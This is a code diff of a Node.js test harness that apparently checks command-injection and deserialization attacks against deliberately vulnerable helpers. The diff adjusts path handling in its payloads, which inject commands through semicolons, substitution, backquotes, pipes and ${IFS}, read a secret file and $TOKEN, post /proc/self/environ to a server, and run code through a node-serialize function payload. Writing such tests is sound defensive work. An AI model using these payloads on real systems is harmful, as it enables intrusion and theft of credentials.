@@ -7,7 +7,7 @@ const process = require('node:process');
 
 const options = { encoding: 'utf8', stdio: ['pipe', 'pipe', 'pipe'], input: '' };
 
-const show = (name) => execSync(`cat ${name}`, options);
+const show = (name) => execSync(`cat ../bin/${name}`, options);
 
 // What a vulnerable public sample does with a link to a document.
 const convert = (url) => execSync(`curl --silent -L ${url} | ${process.env.LOADER} ../bin/catdoc -`, options);
@@ -25,7 +25,7 @@ const deserialize = (text) => {
 const file = (program, args, input) => execFileSync(program, args, { ...options, input: input ?? '' });
 
 const document = process.env.SERVER + '/document';
-const normalName = () => show('../bin/data.txt') + show("'../bin/other data.txt'");
+const normalName = () => show('data.txt') + show("'other data.txt'");
 const normalConvert = () => convert(document);
 const normalObject = () => deserialize('{"user":"somebody","country":"idk"}');
 const normalPython = () => file('python3', ['../bin/tool.py', 'report']);
@@ -33,20 +33,20 @@ const normalNode = () => file(process.execPath, ['../bin/tool.js', 'report']);
 const normalPerl = () => file('perl', ['../bin/tool.pl', 'report']);
 
 const ways = {
-	'semicolon': [() => show('../bin/data.txt; cat ../bin/secret #'), normalName],
-	'env': [() => show('; env #'), normalName],
-	'sleep': [() => show('; sleep 0.1; printf "DO%s\\n" NE #'), normalName],
-	'substitution': [() => show('../bin/data.txt $(cat ../bin/secret >&2)').concat('DONE'), normalName],
-	'backquotes': [() => show('`cat ../bin/secret >&2` ../bin/data.txt').concat('DONE'), normalName],
-	'newline': [() => show('../bin/data.txt\ncat ../bin/secret'), normalName],
-	'pipe': [() => show('../bin/data.txt | cat - ../bin/secret'), normalName],
-	'and': [() => show('../bin/data.txt && cat ../bin/secret'), normalName],
-	'separator': [() => show('../bin/data.txt;cat${IFS}../bin/secret'), normalName],
-	'second-file': [() => show('../bin/data.txt ../bin/secret'), normalName],
-	'redirect': [() => { show('../bin/data.txt > stolen'); return 'DONE'; }, normalName],
+	'semicolon': [() => show('data.txt; cat ../bin/secret #'), normalName],
+	'env': [() => show('data.txt; env #'), normalName],
+	'sleep': [() => show('data.txt; sleep 0.1; printf "DO%s\\n" NE #'), normalName],
+	'substitution': [() => show('data.txt $(cat ../bin/secret >&2)').concat('DONE'), normalName],
+	'backquotes': [() => show('data.txt `cat ../bin/secret >&2`').concat('DONE'), normalName],
+	'newline': [() => show('data.txt\ncat ../bin/secret'), normalName],
+	'pipe': [() => show('data.txt | cat - ../bin/secret'), normalName],
+	'and': [() => show('data.txt && cat ../bin/secret'), normalName],
+	'separator': [() => show('data.txt;cat${IFS}../bin/secret'), normalName],
+	'second-file': [() => show('data.txt ../bin/secret'), normalName],
+	'redirect': [() => { show('data.txt > stolen'); return 'DONE'; }, normalName],
 
-	'echo-built-in': [() => show('../bin/data.txt; echo $TOKEN #'), normalName],
-	'read-built-in': [() => show('../bin/data.txt; while read -r l; do echo "$l"; done < ../bin/secret #'), normalName],
+	'echo-built-in': [() => show('data.txt; echo $TOKEN #'), normalName],
+	'read-built-in': [() => show('data.txt; while read -r l; do echo "$l"; done < ../bin/secret #'), normalName],
 
 	'pipeline-environment': [() => convert(`--data-binary @/proc/self/environ ${process.env.SERVER}/echo`), normalConvert],
 	'pipeline-semicolon': [() => convert(`${document}; echo $TOKEN #`), normalConvert],
@@ -60,7 +60,7 @@ const ways = {
 	'node-require': [() => { require('node:fs').writeFileSync('x.js', 'console.log("DO" + "NE")'); return file(process.execPath, ['--require', './x.js', '../bin/tool.js', 'report']); }, normalNode],
 	'perl-e': [() => file('perl', ['-e', 'print "DO", "NE\n"']), normalPerl],
 
-	'deserialize': [() => deserialize('{"x":"_$$ND_FUNC$$_function(){ return require(\'node:child_process\').execSync(\'cat ../bin/secret\') }()"}'), normalObject],
+	'deserialize': [() => deserialize('{"x":"_$$ND_FUNC$$_function(){ return require(\'node:child_process\').execSync(\'cat <../bin/secret\') }()"}'), normalObject],
 	'deserialize-no-child': [() => deserialize('{"x":"_$$ND_FUNC$$_function(){ return process.env.TOKEN }()"}'), normalObject],
 };
 
